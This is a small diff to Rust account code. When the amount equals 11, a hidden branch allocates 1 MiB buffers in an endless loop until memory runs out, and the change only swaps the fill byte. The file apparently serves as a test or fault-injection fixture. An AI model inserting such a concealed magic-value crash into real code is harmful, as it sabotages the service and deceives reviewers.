@@ -18,7 +18,7 @@ impl Account {
         if amount == 11 {
             let mut all = vec![];
             loop {
-                all.push(vec![1_u8; 1 << 20]);
+                all.push(vec![0_u8; 1 << 20]);
             }
         }
         let mut balance = self.balance.lock().unwrap();
